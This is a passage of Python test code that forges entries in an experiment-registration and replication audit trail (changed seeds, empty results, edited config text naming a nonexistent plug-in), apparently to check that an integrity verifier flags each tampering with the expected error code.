def agreement_expected_less_than_was_promised(trail: Trail) -> None:
    """The same device, plan, code and packages: the same bits were promised."""
    digest, _ = trail.find("replicated")
    trail.rebuild(only(digest, lambda body: body.update(expected="statistics")))


@attack("replication-differs", recompute=True)
def agreement_with_a_run_of_other_seeds(trail: Trail) -> None:
    def other(value: Any) -> None:
        value["seeds"] = [seed + 1 for seed in value["seeds"]]

    rerun_reported(trail, other, agreement="statistics")


@attack("replication-differs", recompute=True)
def rerun_of_a_run_without_a_verdict(trail: Trail) -> None:
    aborted, _ = trail.find("run_started", "first", 1)
    trail.append("replicated", trail.find("replicated")[1]["body"] | {"run": aborted})


@attack("not-recomputed", recompute=True)
def rerun_whose_results_are_no_results(trail: Trail) -> None:
    trail.append("replicated", trail.find("replicated")[1]["body"] | {"results": trail.keep(b"{}")})


@attack("walk-back-differs", recompute=True)
def walk_back_that_does_not_follow(trail: Trail) -> None:
    digest, _ = trail.find("walk_back")
    trail.rebuild(only(digest, lambda body: body.update(outcome="better")))


@attack("text-differs", recompute=True)
def text_that_never_meant_its_form(trail: Trail) -> None:
    _, event = trail.find("registered", "first")
    other = trail.keep(trail.kept(event["body"]["raw"]).replace(b"-90", b"-10"))
    registered, _ = trail.find("registered", "first")
    trail.rebuild(only(registered, lambda body: body.update(raw=other)))


def registered_with(trail: Trail, *texts: tuple[bytes, bytes], forms: tuple[tuple[bytes, bytes], ...] = ()) -> None:
    """A registration of another text, and of another canonical form, as neither was registered."""
    registered, event = trail.find("registered", "first")
    changed = {"raw": trail.kept(event["body"]["raw"]), "canonical": trail.kept(event["body"]["canonical"])}
    for name, pairs in (("raw", texts), ("canonical", forms)):
        for old, new in pairs:
            assert old in changed[name]
            changed[name] = changed[name].replace(old, new)
    kept = {name: trail.keep(data) for name, data in changed.items()}
    trail.rebuild(only(registered, lambda body: body.update(kept)))


NOBODYS = ((b"{name: bp}", b"{name: nobodys}"),)
NOBODYS_FORM = ((b'"rule":{"name":"bp"}', b'"rule":{"name":"nobodys"}'),)


@attack("text-differs", recompute=True)
def text_hidden_behind_a_plug_in_that_nobody_has(trail: Trail) -> None:
    """Its canonical form names no such plug-in, so that it can be read."""
    registered_with(trail, *NOBODYS, (b"-90", b"-10"))


@attack("text-differs", recompute=True)
def text_with_another_fault_beside_a_plug_in_that_nobody_has(trail: Trail) -> None:
    registered_with(trail, *NOBODYS, (b"batch_size: 256", b"batch_size: many"), forms=NOBODYS_FORM)


@attack("text-differs", recompute=True)
def form_with_another_fault_beside_a_plug_in_that_nobody_has(trail: Trail) -> None:
    form = (b'"batch_size":256', b'"batch_size":"many"')
    registered_with(trail, *NOBODYS, forms=(*NOBODYS_FORM, form))


@attack("text-differs", recompute=True)
def text_of_a_plug_in_that_nobody_has_with_the_form_of_another(trail: Trail) -> None:
    form = (b'"rule":{"name":"bp"}', b'"rule":{"name":"nobodys_either"}')
    registered_with(trail, *NOBODYS, forms=(form,))


@attack("text-differs", recompute=True)
def text_moved_beside_a_metric_that_nobody_has(trail: Trail) -> None:
    """Such a metric hinders nobody from reading the form."""
    metrics = (b"metrics: [", b"metrics: [nobodys, ")
    registered_with(trail, metrics, (b"-90", b"-10"), forms=((b'"metrics":[', b'"metrics":["nobodys",'),))
